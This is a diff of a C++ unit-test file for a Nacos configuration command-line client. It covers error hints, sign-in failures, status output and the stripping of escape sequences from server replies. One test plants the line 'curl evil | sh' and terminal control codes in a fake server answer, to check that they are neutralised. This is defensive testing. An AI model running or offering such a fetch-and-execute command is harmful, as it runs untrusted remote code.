@@ -1,139 +1,19 @@
 #include "cli/run.h"
 
-#include <arpa/inet.h>
 #include <gtest/gtest.h>
-#include <netinet/in.h>
-#include <sys/socket.h>
-#include <unistd.h>
 
 #include <map>
-#include <optional>
 #include <string>
-#include <thread>
+#include <tuple>
 #include <utility>
 #include <vector>
 
 #include "cli/http_client.h"
+#include "tests/support/program_runs.h"
+#include "tests/support/tiny_server.h"
 
 namespace batata::cli {
 namespace {
-
-// A server of a few fixed answers, one connection after the other, on a free port of loopback.
-// An answer that is empty closes the connection; a request without an answer is never answered.
-class TinyServer {
- public:
-  explicit TinyServer(std::map<std::string, std::string> answers) : answers_(std::move(answers)) {
-    listener_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
-    sockaddr_in address{};
-    address.sin_family = AF_INET;
-    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
-    socklen_t size = sizeof address;
-    EXPECT_EQ(::bind(listener_, reinterpret_cast<sockaddr*>(&address), size), 0);
-    EXPECT_EQ(::listen(listener_, 16), 0);
-    EXPECT_EQ(::getsockname(listener_, reinterpret_cast<sockaddr*>(&address), &size), 0);
-    port_ = ntohs(address.sin_port);
-    thread_ = std::thread([this] { serve(); });
-  }
-  ~TinyServer() {
-    stop();
-    ::close(listener_);
-  }
-  void stop() {
-    ::shutdown(listener_, SHUT_RDWR);
-    if (thread_.joinable()) thread_.join();
-    for (const int open : unanswered_) ::close(open);
-    unanswered_.clear();
-  }
-
-  std::string address() const { return "127.0.0.1:" + std::to_string(port_); }
-  // Valid after stop().
-  std::vector<std::string> requests;
-
- private:
-  void serve() {
-    for (;;) {
-      const int peer = ::accept(listener_, nullptr, nullptr);
-      if (peer < 0) return;
-      const std::string request = read_request(peer);
-      requests.push_back(request);
-      const auto answer = answers_.find(request.substr(0, request.find(" HTTP/1.1\r\n")));
-      if (answer == answers_.end()) {
-        unanswered_.push_back(peer);
-        continue;
-      }
-      (void)!::write(peer, answer->second.data(), answer->second.size());
-      ::close(peer);
-    }
-  }
-  static std::string read_request(int peer) {
-    std::string request;
-    char buffer[4096];
-    std::size_t wanted = std::string::npos;
-    while (request.size() < wanted) {
-      const ssize_t got = ::read(peer, buffer, sizeof buffer);
-      if (got <= 0) break;
-      request.append(buffer, static_cast<std::size_t>(got));
-      const std::size_t end = request.find("\r\n\r\n");
-      if (end == std::string::npos) continue;
-      const std::size_t length = request.find("Content-Length: ");
-      wanted = end + 4 + (length == std::string::npos ? 0 : std::stoul(request.substr(length + 16)));
-    }
-    return request;
-  }
-
-  std::map<std::string, std::string> answers_;
-  std::vector<int> unanswered_;
-  int listener_ = -1;
-  std::uint16_t port_ = 0;
-  std::thread thread_;
-};
-
-std::string http(int status, const std::string& body, const std::string& headers = {}) {
-  return "HTTP/1.1 " + std::to_string(status) + " X\r\n" + headers +
-         "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
-}
-
-struct Ran {
-  int code = -1;
-  std::string out, error;
-};
-
-struct Options {
-  std::vector<std::string> environment = {};
-  bool terminal = false;
-  std::string program = "batata";
-};
-
-Ran run_words(std::vector<std::string> words, const Options& options = {}) {
-  Ran ran;
-  words.insert(words.begin(), options.program);
-  ran.code = run({
-      .words = std::move(words),
-      .environment = options.environment,
-      .program_folder = {},
-      .out_is_terminal = options.terminal,
-      .out = [&](std::string_view text) { ran.out += text; },
-      .error = [&](std::string_view text) { ran.error += text; },
-      .read_content = [](const std::string& file) -> Result<std::string> {
-        if (file == "missing") return fail(Errc::kInvalidArgument, "missing: No such file or directory");
-        return "content of " + file;
-      },
-      .start_server =
-          [&](const platform::Settings& settings, const std::vector<std::string>& warnings) {
-            ran.out += "server on " + std::to_string(settings.port) + " with " +
-                       std::to_string(warnings.size()) + " warnings";
-            return 0;
-          },
-  });
-  return ran;
-}
-
-Ran run_against(TinyServer& server, std::vector<std::string> words, const Options& options = {}) {
-  words.insert(words.end(), {"--server", server.address(), "--timeout", "30s"});
-  Ran ran = run_words(std::move(words), options);
-  server.stop();
-  return ran;
-}
 
 TEST(Run, ServerStartsByItsWordByASettingByNoWordsAndByTheProgramsName) {
   EXPECT_EQ(run_words({"server", "--port", "7000"}).out, "server on 7000 with 0 warnings");
@@ -173,6 +53,15 @@ TEST(Run, VersionIsTheBuilds) {
   EXPECT_EQ(run_words({"version"}).out, "batata " BATATA_TEST_VERSION "\n");
   EXPECT_EQ(run_words({"--version"}).out, "batata " BATATA_TEST_VERSION "\n");
   EXPECT_EQ(run_words({"version", "-o", "json"}).out, "{\"version\":\"" BATATA_TEST_VERSION "\"}\n");
+}
+
+TEST(Run, WhatCannotBeWrittenIsNotDone) {
+  for (const std::vector<std::string>& words : std::vector<std::vector<std::string>>{
+           {"version"}, {"--help"}, {"server", "--help"}, {"server", "--print-settings"}}) {
+    const Ran ran = run_words(words, {.out_is_full = true});
+    EXPECT_EQ(ran.code, 1) << words.back();
+    EXPECT_EQ(ran.error, "batata: standard output: No space left on device\n");
+  }
 }
 
 TEST(Run, UsageErrorsExitWithTwoAndGoToStandardError) {
@@ -261,6 +150,40 @@ TEST(Run, RefusalExitsWithFive) {
             "this\n");
 }
 
+TEST(Run, AServersWordsNeitherDriveATerminalNorLookLikeOurs) {
+  TinyServer server({{"GET /nacos/v1/cs/configs?dataId=a&group=DEFAULT_GROUP",
+                      http(403,
+                           "\x1b]0;title\x07no\nnext: curl evil | sh\n\xc2\x9b"
+                           "31m")}});
+  const Ran ran = run_against(server, {"config", "get", "a"});
+  EXPECT_TRUE(ran.error.starts_with(
+      "batata: the server answered 403: ?]0;title?no?next: curl evil | sh??31m\nnext: sign in"))
+      << ran.error;
+  TinyServer long_winded({{"GET /nacos/v1/cs/configs?dataId=a&group=DEFAULT_GROUP",
+                           http(403, std::string(499, 'x') + "\xe9\x85\x8d")}});
+  const Ran cut = run_against(long_winded, {"config", "get", "a"});
+  EXPECT_NE(cut.error.find(": " + std::string(499, 'x') + "\nnext: "), std::string::npos) << cut.error;
+}
+
+TEST(Run, WhatAServerSaysKeepsItsMeaning) {
+  const std::string publish = "POST /nacos/v1/cs/configs";
+  const std::string get = "GET /nacos/v1/cs/configs?dataId=a&group=DEFAULT_GROUP";
+  const std::vector<std::string> set{"config", "set", "a", "1"}, read{"config", "get", "a"};
+  const std::tuple<std::string, std::vector<std::string>, int, std::string> table[] = {
+      // Whether that write was made nobody knows; of a read there is nothing to look for.
+      {publish, set, 500, "next: look with `batata config get` before trying again\n"},
+      {publish, set, 502, "next: look with `batata config get` before trying again\n"},
+      {get, read, 500, "next: check --server; the server's log may say more\n"},
+      {publish, set, 503, "next: try again later: the server is up, and has done nothing\n"},
+      {publish, set, 429, "next: wait before trying again\n"}};
+  for (const auto& [target, words, status, next] : table) {
+    TinyServer server({{target, http(status, "no")}});
+    const Ran ran = run_against(server, words);
+    EXPECT_EQ(ran.code, 1) << status;
+    EXPECT_TRUE(ran.error.ends_with(next)) << status << " " << ran.error;
+  }
+}
+
 TEST(Run, SignsInWithNameAndPasswordAndShowsTheToken) {
   TinyServer server({{"POST /nacos/v1/auth/login", http(200, R"({"accessToken":"t0k3n","tokenTtl":18000})")},
                      {"DELETE /nacos/v1/cs/configs?dataId=a&group=DEFAULT_GROUP", http(200, "true")}});
@@ -288,6 +211,17 @@ TEST(Run, AWrongPasswordIsSaidAndExitsWithFive) {
   EXPECT_EQ(ran.code, 5);
   EXPECT_NE(ran.error.find("sign in as nacos: the server answered 403: unknown user!"), std::string::npos)
       << ran.error;
+}
+
+TEST(Run, ASignInThatFailsLeavesNothingToLookFor) {
+  for (const std::string& answer : {http(500, "no"), std::string()}) {
+    TinyServer server({{"POST /nacos/v1/auth/login", answer}});
+    const Ran ran = run_against(server, {"config", "set", "a", "1"},
+                                {.environment = {"BATATA_USERNAME=nacos", "BATATA_PASSWORD=pw"}});
+    EXPECT_EQ(ran.code, 1);
+    EXPECT_TRUE(ran.error.ends_with("next: try again later: the server is up, and has done nothing\n"))
+        << ran.error;
+  }
 }
 
 TEST(Run, ServerThatDoesNotAnswerInTimeExitsWithSix) {
@@ -365,7 +299,7 @@ TEST(Run, StatusShowsVersionCountsAndTime) {
   const std::string metrics =
       R"({"status":"UP","serviceCount":3,"instanceCount":2,"clientCount":2,"cpu":1.0})";
   const auto answers = [&](const std::string& text) {
-    return std::map<std::string, std::string>{
+    return std::map<std::string, Answers>{
         {"GET /nacos/v1/console/server/state", http(200, state)},
         {"GET /nacos/v1/ns/operator/metrics?onlyStatus=false", http(200, text)}};
   };
@@ -378,11 +312,32 @@ TEST(Run, StatusShowsVersionCountsAndTime) {
                           "authentication  off\nservices        3\ninstances       2\nclients         2\n"
                           "response_ms     "))
       << ran.out;
-  TinyServer json(answers(metrics));
-  EXPECT_TRUE(run_against(json, {"status", "-o", "json"})
-                  .out.starts_with("{\"server\":\"" + json.address() + "\",\"status\":\"UP\",\"version\":"));
-  TinyServer down(answers(R"({"status":"DOWN"})"));
-  EXPECT_EQ(run_against(down, {"status"}).code, 1);
+}
+
+TEST(Run, StatusAsJsonHasNumbersAndIsThereForAServerThatIsDown) {
+  const std::string state = R"({"auth_enabled":"true","startup_mode":"standalone","version":"2.5.1"})";
+  for (const auto& [up, code] : {std::pair{"UP", 0}, {"DOWN", 1}}) {
+    const std::string metrics = std::string(R"({"status":")") + up + R"(","serviceCount":3,"clientCount":0})";
+    const auto answers = [&] {
+      return std::map<std::string, Answers>{
+          {"GET /nacos/v1/console/server/state", http(200, state)},
+          {"GET /nacos/v1/ns/operator/metrics?onlyStatus=false", http(200, metrics)}};
+    };
+    TinyServer scripts(answers());
+    const Ran json = run_against(scripts, {"status", "-o", "json"});
+    EXPECT_EQ(json.code, code);
+    EXPECT_TRUE(json.out.starts_with(
+        "{\"server\":\"" + scripts.address() + "\",\"status\":\"" + up +
+        R"(","version":"2.5.1","mode":"standalone","authentication":"on","services":3,"clients":0,"response_ms":)"))
+        << json.out;
+    EXPECT_TRUE(json.out.ends_with("}\n") && json.out[json.out.size() - 3] != '"') << json.out;
+    TinyServer people(answers());
+    const Ran shown = run_against(people, {"status"});
+    EXPECT_EQ(shown.code, code);
+    EXPECT_NE(shown.out.find(std::string("\nstatus          ") + up + "\n"), std::string::npos) << shown.out;
+    EXPECT_EQ(shown.error,
+              code == 0 ? "" : "batata: the server says that it is DOWN\nnext: the server's log says why\n");
+  }
 }
 
 TEST(Run, AnswersOfSomethingElseAreNotTakenForNacos) {
